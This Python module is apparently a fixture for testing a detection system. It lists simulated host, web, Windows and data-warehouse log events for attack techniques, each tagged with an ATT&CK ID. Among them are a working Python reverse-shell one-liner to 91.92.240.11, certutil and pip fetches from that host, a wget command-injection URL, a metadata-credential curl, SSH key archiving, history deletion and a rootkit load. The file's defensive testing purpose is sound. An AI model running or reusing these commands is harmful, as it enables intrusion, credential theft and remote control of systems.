"""Attacks on hosts, servers, warehouses and networks: name, technique, what is right, the log."""

from detect.strangers.host_lines import (
    SYSMON,
    auditd,
    auditd_open,
    clf,
    dbx,
    dockerev,
    envoy,
    pg,
    proc,
    snow,
    sysl,
    win,
    zconn,
    zdns,
)
from detect.strangers.lines import OUT2, T0, at, jl, ms, uid

ATTACKS = [
    (
        "pip_index",
        "T1195.001",
        "pip pointed at a strange index and a package installed",
        auditd(
            "/usr/bin/python3.11",
            ["python3", "-m", "pip", "install", "--index-url", "http://91.92.240.11/simple", "torch"],
            uid_=0,
        ),
    ),
    (
        "python_shell",
        "T1059.006",
        "python opens a shell to the outside",
        auditd(
            "/usr/bin/python3.11",
            [
                "python3",
                "-c",
                "import socket,subprocess,os;s=socket.socket();s.connect(('91.92.240.11',443));[os.dup2(s.fileno(),f) for f in(0,1,2)];subprocess.call(['/bin/sh'])",  # noqa: E501
            ],
            uid_=998,
        ),
    ),
    (
        "systemd_unit",
        "T1543.002",
        "unit file written",
        auditd_open("/etc/systemd/system/gpu-metrics.service", exe="/usr/bin/bash", nametype="CREATE", uid_=0),
    ),
    ("selinux_off", "T1562.001", "SELinux switched off", auditd("/usr/sbin/setenforce", ["setenforce", "0"], uid_=0)),
    (
        "history_gone",
        "T1070.003",
        "history of the shell deleted",
        auditd("/usr/bin/rm", ["rm", "-f", "/home/ubuntu/.bash_history"], uid_=0),
    ),
    (
        "imds_curl",
        "T1552.005",
        "credentials of the machine asked for",
        auditd(
            "/usr/bin/curl",
            ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/sagemaker-exec-role"],
            uid_=998,
        ),
    ),
    (
        "ssh_keys_stolen",
        "T1552.004",
        "private keys packed",
        auditd("/usr/bin/tar", ["tar", "czf", "/tmp/k.tgz", "/home/ada/.ssh", "/home/ada/.aws"], uid_=0),
    ),
    (
        "insmod",
        "T1547.006",
        "module loaded into the kernel",
        auditd("/usr/sbin/insmod", ["insmod", "/tmp/rk.ko"], uid_=0),
    ),
    (
        "ssh_root_new_key",
        "T1021.004",
        "root logs in from outside",
        sysl("gpu-01", "sshd", f"Accepted publickey for root from {OUT2} port 51122 ssh2: RSA SHA256:zz"),
    ),
    (
        "useradd_root",
        "T1136.001",
        "second root",
        sysl("gpu-02", "useradd", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"),
    ),
    (
        "win_4720",
        "T1136.001",
        "local user made",
        jl(
            win(
                4720,
                {
                    "TargetUserName": "helpdesk$",
                    "TargetDomainName": "GPU-WIN-01",
                    "SubjectUserName": "mallory",
                    "SubjectDomainName": "ACME",
                    "SamAccountName": "helpdesk$",
                },
            )
        ),
    ),
    (
        "win_psexec",
        "T1569.002",
        "remote execution service",
        jl(
            win(
                7045,
                {
                    "ServiceName": "PSEXESVC",
                    "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                    "ServiceType": "user mode service",
                    "StartType": "demand start",
                    "AccountName": "LocalSystem",
                },
                ch="System",
                prov="Service Control Manager",
            )
        ),
    ),
    (
        "win_certutil",
        "T1105",
        "tool fetched with certutil",
        jl(
            proc(
                "C:\\Windows\\System32\\certutil.exe",
                "certutil -urlcache -split -f http://91.92.240.11/a.exe C:\\Users\\Public\\a.exe",
            )
        ),
    ),
    (
        "win_run_key",
        "T1547.001",
        "start entry in the registry",
        jl(
            win(
                13,
                {
                    "EventType": "SetValue",
                    "Image": "C:\\Users\\Public\\a.exe",
                    "TargetObject": "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd",
                    "Details": "C:\\Users\\Public\\a.exe",
                    "User": "ACME\\mallory",
                },
                **SYSMON,
            )
        ),
    ),
    (
        "cmd_injection",
        "T1190",
        "command in a parameter of the labelling host",
        clf(OUT2, "GET /export?file=x.csv%3Bwget%20http%3A%2F%2F91.92.240.11%2Fs HTTP/1.1", 200, host="label.acme.io"),
    ),
    (
        "ssti",
        "T1190",
        "template evaluated",
        clf(OUT2, "GET /hello?name=%7B%7B7*7%7D%7D HTTP/1.1", 200, host="label.acme.io"),
    ),
    (
        "airflow_dag",
        "T1059",
        "DAG started from outside",
        clf(OUT2, "POST /api/v1/dags/train_fraud/dagRuns HTTP/1.1", 200, host="mlflow.acme.io"),
    ),
    (
        "jupyter_kernel",
        "T1059",
        "kernel from outside",
        clf(OUT2, "POST /api/kernels HTTP/1.1", 201, host="jupyter.acme.io"),
    ),
    (
        "triton_shm",
        "T1190",
        "shared memory of Triton registered from outside",
        envoy(OUT2, "POST", "/v2/systemsharedmemory/region/x/register", "infer.acme.io"),
    ),
    ("docker_sh", "T1609", "shell in the serving container", dockerev("exec_create: bash -i")),
    (
        "snow_get",
        "T1567",
        "results pulled to a local file",
        jl(snow("GET @~/train file:///tmp/", who="MALLORY", typ="GET_FILES")),
    ),
    (
        "snow_clone_share",
        "T1537",
        "database added to a new share",
        jl(
            snow("CREATE SHARE EXT_SHARE", typ="CREATE"),
            snow("GRANT USAGE ON DATABASE ML_FEATURES TO SHARE EXT_SHARE", typ="GRANT", t=at(5)),
        ),
    ),
    (
        "dbx_share",
        "T1537",
        "model shared with a recipient",
        jl(
            dbx(
                "unityCatalog",
                "updateShare",
                "bob@acme.io",
                ip=OUT2,
                name="fraud_share",
                updates='[{"action":"ADD","data_object":{"name":"ml.prod.fraud_scorer"}}]',
            ),
            dbx("unityCatalog", "createRecipient", "bob@acme.io", ip=OUT2, name="x", t=at(4)),
        ),
    ),
    (
        "hf_delete",
        "T1485",
        "model repository deleted",
        jl(
            {
                "_id": uid(),
                "type": "repo.delete",
                "repo": "acme/fraud-bert",
                "createdAt": ms(T0),
                "author": {"user": "mallory"},
                "req": {"ip": OUT2, "country": "RU"},
            }
        ),
    ),
    ("pg_role", "T1098", "stranger made superuser of the database", pg("ALTER ROLE mallory WITH SUPERUSER")),
    (
        "zeek_ssh_out",
        "T1048",
        "sixty gigabytes by SSH to a strange address",
        zconn("10.20.0.15", OUT2, 22, 60_000_000_000, 900_000, dur=5000.0, svc="ssh"),
    ),
    (
        "dns_pool",
        "T1496",
        "mining pool looked up by the GPU host",
        "".join(zdns("10.20.0.15", "xmr.pool.minergate.com", t=at(i * 60), typ="A") for i in range(5)),
    ),
]
